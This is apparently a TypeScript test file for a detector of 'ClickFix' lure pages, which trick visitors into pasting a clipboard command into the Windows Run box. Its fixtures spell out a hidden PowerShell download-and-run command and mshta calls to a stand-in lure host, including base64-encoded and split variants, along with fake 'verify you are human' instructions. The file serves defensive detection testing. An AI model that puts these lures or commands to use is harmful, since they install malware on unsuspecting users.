import { clickfix } from '../../../classifiers/detectors/clickfix.ts';
import { behaviourOf } from '../capture-builder.ts';
import { describeDetector } from './table.ts';

const command = 'powershell -w hidden -c "iex (iwr https://cdn.lure.test/a)"';
const lure = 'Verify you are human. Press Windows + R, then Ctrl + V and Enter.';
const copies = `document.getElementById("b").onclick = () => navigator.clipboard.writeText('${command}');`;

describeDetector(clickfix, [
  { page: 'a manual with a copy button', raises: [], sketch: { body: '<pre>curl -fsSL https://get.rivet.test | sh</pre><p>Open a terminal and paste it.</p>', scripts: ["b.onclick = () => navigator.clipboard.writeText('curl -fsSL https://get.rivet.test | sh')"], behaviour: [behaviourOf('clipboard-write', 'curl -fsSL https://get.rivet.test | sh', false)] } },
  { page: 'a how-to about the Run window', raises: [], sketch: { body: 'Press Windows + R to open the Run dialog. Type powershell and press Enter. Paste with Ctrl + V.' } },
  { page: 'a report about the trick that shows its command', raises: [], sketch: { body: `Fake checks say "verify you are human", then "press Windows + R, Ctrl + V": <code>${command}</code>` } },
  { page: 'a share button that copies an address', raises: [], sketch: { body: 'Copy link', behaviour: [behaviourOf('clipboard-write', 'https://pages.example.test/a', true)] } },
  { page: 'a game\'s guide that copies the folder it shows', raises: [], sketch: { body: 'Press Win + R, paste %appdata%\\game with Ctrl + V', behaviour: [behaviourOf('clipboard-write', '%appdata%\\game', false)] } },
  { page: 'a fix that has an unseen text pasted', raises: ['clipboard-unseen-paste'], sketch: { body: 'Press Win-R, type dxdiag, press Ctrl-L and Ctrl-V', behaviour: [behaviourOf('clipboard-write', 'settings.cfg /apply', false)] } },
  { page: 'a real captcha', raises: [], sketch: { body: 'Verify you are human', scripts: ['window.turnstile.render()'] } },
  { page: 'a command copied unasked and not shown', raises: ['clipboard-command-hidden', 'clipboard-command-unprompted'], sketch: { body: 'Loading', behaviour: [behaviourOf('clipboard-write', command)] } },
  { page: 'a check that copies a command on a click', raises: ['clipboard-command-hidden', 'clipboard-command-lure', 'clipboard-unseen-paste', 'guided-paste', 'run-instructions-lure', 'scripted-command-lure'], sketch: { body: lure, scripts: [copies], behaviour: [behaviourOf('clipboard-write', command, false)] } },
  { page: 'a check whose instructions only a click brings up', raises: ['guided-paste', 'run-instructions-lure', 'scripted-command-lure'], sketch: { text: 'I am not a robot', body: `I am not a robot <div style="display:none">${lure}</div>`, scripts: [copies] } },
  { page: 'a check with its command in base64', raises: ['guided-paste', 'run-instructions-lure', 'scripted-command-lure'], sketch: { body: lure, scripts: [`navigator.clipboard.writeText(atob("${Buffer.from(command).toString('base64')}"))`] } },
  { page: 'a check with its command in pieces', raises: ['guided-paste', 'run-instructions-lure', 'scripted-command-lure'], sketch: { body: lure, scripts: ["navigator.clipboard.writeText('msh' + 'ta https://cdn.lure.test/x')"] } },
  { page: 'a German check for a Mac', raises: ['run-instructions-lure', 'scripted-command-lure'], sketch: { body: 'Bestätigen Sie: Ich bin kein Roboter. Öffnen Sie das Terminal und drücken Sie Cmd + V.', scripts: ["navigator.clipboard.writeText('echo Y3VybA== | base64 -d | bash')"] } },
  { page: 'a hidden command behind a plain button', raises: ['scripted-command'], sketch: { body: 'Get the guide', scripts: [copies] } },
  { page: 'a small page that leads into the Run window key by key', raises: ['guided-paste'], sketch: { body: 'Your meeting needs one step more. Press Win + R, then press Ctrl + V, then press Enter.', scripts: ['b.onclick = () => navigator.clipboard.writeText(x)'] } },
  { page: 'the same in Spanish', raises: ['guided-paste'], sketch: { body: 'Para continuar presiona Win + R, pega el texto y pulsa Intro.', scripts: ['navigator.clipboard.writeText(x)'] } },
  { page: 'a file-explorer variant', raises: ['guided-paste'], sketch: { body: 'Open File Explorer, click the address bar, paste the path and press Enter.', scripts: ['navigator.clipboard.writeText(x)'] } },
  { page: 'a system tool to be started with rights', raises: ['guided-run'], sketch: { body: 'Certificates are broken. Press the Win key, type certreq, press Ctrl-Shift-Enter and click Yes when prompted.', scripts: ['navigator.clipboard.writeText(x)'] } },
  { page: 'an installer\'s page that shows its command in a box', raises: [], sketch: { body: 'Open a terminal, paste this and press Enter: <pre>curl -fsSL https://tool.example/install.sh | sh</pre>', scripts: ['b.onclick = () => navigator.clipboard.writeText(pre.textContent)'] } },
  { page: 'a manual with a site around it', raises: [], sketch: { body: `Press Win + R, type cmd and press Enter. ${['a', 'b', 'c', 'd', 'e', 'f', 'g'].map((name) => `<a href="/${name}">${name}</a>`).join('')}`, scripts: ['navigator.clipboard.writeText(x)'] } },
  { page: 'a guide that copies the folder it shows, step by step', raises: [], sketch: { body: 'Press Win + R, paste %appdata%\\game with Ctrl + V, press Enter', behaviour: [behaviourOf('clipboard-write', '%appdata%\\game', false)] } },
  { page: 'a check that shows its hidden-window command in another language', raises: ['covert-command-lure'], sketch: { body: `Ovjeri sustav: Windows tipka + R, Ctrl + V. <p>${command}</p>`, scripts: ['b.onclick = () => 0'], behaviour: [behaviourOf('clipboard-write', command, false)] } },
  { page: 'a false driver that names its key letter by letter', raises: ['covert-command-lure'], sketch: { body: 'Presiona W I N + R para abrir Ejecutar. <p>mshta https://cdn.lure.test/x</p>', behaviour: [behaviourOf('clipboard-write', 'mshta https://cdn.lure.test/x', false)] } },
  { page: 'an installer that pastes what it shows', raises: [], sketch: { body: 'Press Windows + X, open PowerShell, paste: irm https://get.rivet.test/install.ps1 | iex', behaviour: [behaviourOf('clipboard-write', 'irm https://get.rivet.test/install.ps1 | iex', false)] } },
  { page: 'a check whose script did not come', raises: ['guided-check'], sketch: { body: 'Let us know you\'re human. 1. Press Win + R 2. Press Ctrl + V 3. Press Enter for verification' } },
  { page: 'an update screen that gives the keys', raises: ['guided-check'], sketch: { body: 'Working on updates. Hold the Windows key and press R. Hold Ctrl and press V. Press Enter to finish the update.' } },
  { page: 'the same words with a site around them', raises: [], sketch: { body: 'Prove you are human? Press Win + R, press Ctrl + V, press Enter. <a href="/blog">Blog</a><a href="/about">About</a>' } },
  { page: 'a report on such a check', raises: [], sketch: { body: 'Victims are told to prove that they are human: press Win + R, press Ctrl + V, press Enter.' } },
  { page: 'key bindings without a clipboard', raises: [], sketch: { body: 'Press Win + R, then Ctrl + V, then Enter.' } },
]);
